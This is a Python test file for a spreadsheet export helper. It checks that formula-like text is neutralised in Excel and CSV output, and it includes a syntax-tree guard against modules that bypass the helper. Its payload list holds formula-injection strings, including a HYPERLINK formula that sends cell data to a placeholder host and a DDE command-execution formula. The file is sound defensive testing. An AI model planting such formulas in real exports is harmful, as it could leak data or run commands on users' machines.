"""The export helper: formula-like texts are written as text, numbers as numbers, unstorable
characters replaced; and no app module writes a spreadsheet without it (a syntax-tree guard)."""

from __future__ import annotations

import ast
import csv
import io

from openpyxl import load_workbook

from alfadmin.kernel.spreadsheets import REPLACEMENT, append_row, csv_field, csv_writer, new_workbook

from .test_code_shape import ROOT, app_modules

PAYLOADS = ['=HYPERLINK("http://x?"&A2,"Click")', "=cmd|' /C calc'!A0", "+1", "-2+3", "@SUM(A1)", "\tleading tab", "\rleading CR"]
HELPER = ROOT / "alfadmin" / "kernel" / "spreadsheets.py"


def _read_back(values):
    book = new_workbook()
    append_row(book.worksheets[0], values)
    buffer = io.BytesIO()
    book.save(buffer)
    return list(load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0][1])


def test_formula_like_texts_are_string_cells_shown_as_typed():
    cells = _read_back(PAYLOADS)
    assert [cell.data_type for cell in cells] == ["s"] * len(PAYLOADS)
    # XML reads a carriage return in a text as a line feed (the file holds it as written).
    assert [cell.value for cell in cells] == [*PAYLOADS[:-1], "\nleading CR"]
    assert all(cell.quotePrefix for cell in cells)  # Excel keeps the text a text when it is edited


def test_numbers_stay_numbers_and_plain_texts_stay_plain():
    cells = _read_back([-5, 12.5, "Region AAA", None, "=1"])
    assert [(cell.value, cell.data_type) for cell in cells] == [(-5, "n"), (12.5, "n"), ("Region AAA", "s"), (None, "n"), ("=1", "s")]
    assert not cells[2].quotePrefix


def test_unstorable_characters_are_replaced_in_both_formats():
    assert [cell.value for cell in _read_back(["a\u000bb", "x\x00y\ty\nz"])] == [f"a{REPLACEMENT}b", f"x{REPLACEMENT}y\ty\nz"]
    assert csv_field("a\u000bb") == f"a{REPLACEMENT}b"


def test_csv_prefixes_a_quote_to_formula_like_texts_only():
    buffer = io.StringIO()
    csv_writer(buffer, delimiter=";").writerows([PAYLOADS, ["Region AAA", -5, 7, ""]])
    first, second = csv.reader(io.StringIO(buffer.getvalue()), delimiter=";")
    assert first == ["'" + payload for payload in PAYLOADS]
    assert second == ["Region AAA", "-5", "7", ""]


# --- The guard: a module writing a spreadsheet must go through the helper ---------------------

SHEET_SOURCES = ("create_sheet", "active", "worksheets")


def _sheet_names(tree: ast.AST) -> set[str]:
    """Names in `tree` bound to a worksheet: from ``create_sheet``/``active``/``worksheets[…]``,
    a ``cast(Worksheet, …)``, or annotated ``Worksheet``."""
    names: set[str] = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Assign) and any(
            isinstance(part, ast.Attribute) and part.attr in SHEET_SOURCES
            or isinstance(part, ast.Name) and part.id == "Worksheet"
            for part in ast.walk(node.value)
        ):
            names.update(target.id for target in node.targets if isinstance(target, ast.Name))
        if isinstance(node, ast.arg | ast.AnnAssign) and node.annotation is not None and "Worksheet" in ast.unparse(node.annotation):
            target = node.arg if isinstance(node, ast.arg) else ast.unparse(node.target)
            names.add(target)
    return names


def bypasses(source: str) -> list[str]:
    """What in `source` writes a spreadsheet without the helper (one line per finding)."""
    tree = ast.parse(source)
    sheets = _sheet_names(tree)
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
            found += [f"{node.lineno}: imports openpyxl's Workbook" for alias in node.names if alias.name == "Workbook"]
        if isinstance(node, ast.ImportFrom) and node.module == "csv":
            found += [f"{node.lineno}: imports csv.{alias.name}" for alias in node.names if alias.name in ("writer", "DictWriter")]
        if not isinstance(node, ast.Call) or not isinstance(node.func, ast.Attribute):
            continue
        receiver, method = ast.unparse(node.func.value), node.func.attr
        if receiver in ("csv", "openpyxl") and method in ("writer", "DictWriter", "Workbook"):
            found.append(f"{node.lineno}: calls {receiver}.{method}")
        elif method == "append" and receiver in sheets:
            found.append(f"{node.lineno}: appends to the sheet {receiver}")
        elif method == "cell" and any(keyword.arg == "value" for keyword in node.keywords):
            found.append(f"{node.lineno}: writes a cell's value")
    return sorted(found, key=lambda finding: int(finding.split(":")[0]))


def test_the_guard_flags_each_way_around_the_helper():
    source = (
        "import csv\nfrom openpyxl import Workbook\nfrom openpyxl.worksheet.worksheet import Worksheet\n"
        "book = Workbook()\nsheet = book.worksheets[0]\nsheet.append(['=1'])\nother = book.create_sheet('x')\n"
        "other.append([1])\nsheet.cell(row=1, column=1, value='=1')\ncsv.writer(None)\n"
        "def f(ws: Worksheet):\n    ws.append([1])\n"
    )
    assert bypasses(source) == [
        "2: imports openpyxl's Workbook",
        "6: appends to the sheet sheet",
        "8: appends to the sheet other",
        "9: writes a cell's value",
        "10: calls csv.writer",
        "12: appends to the sheet ws",
    ]
    assert bypasses("rows = []\nrows.append([1])\nbook = new_workbook()\nappend_row(book.worksheets[0], rows[0])\n") == []


def test_no_app_module_writes_a_spreadsheet_without_the_helper():
    found = {path.relative_to(ROOT).as_posix(): bypasses(path.read_text(encoding="utf-8")) for path in app_modules() if path != HELPER}
    assert {path: findings for path, findings in found.items() if findings} == {}
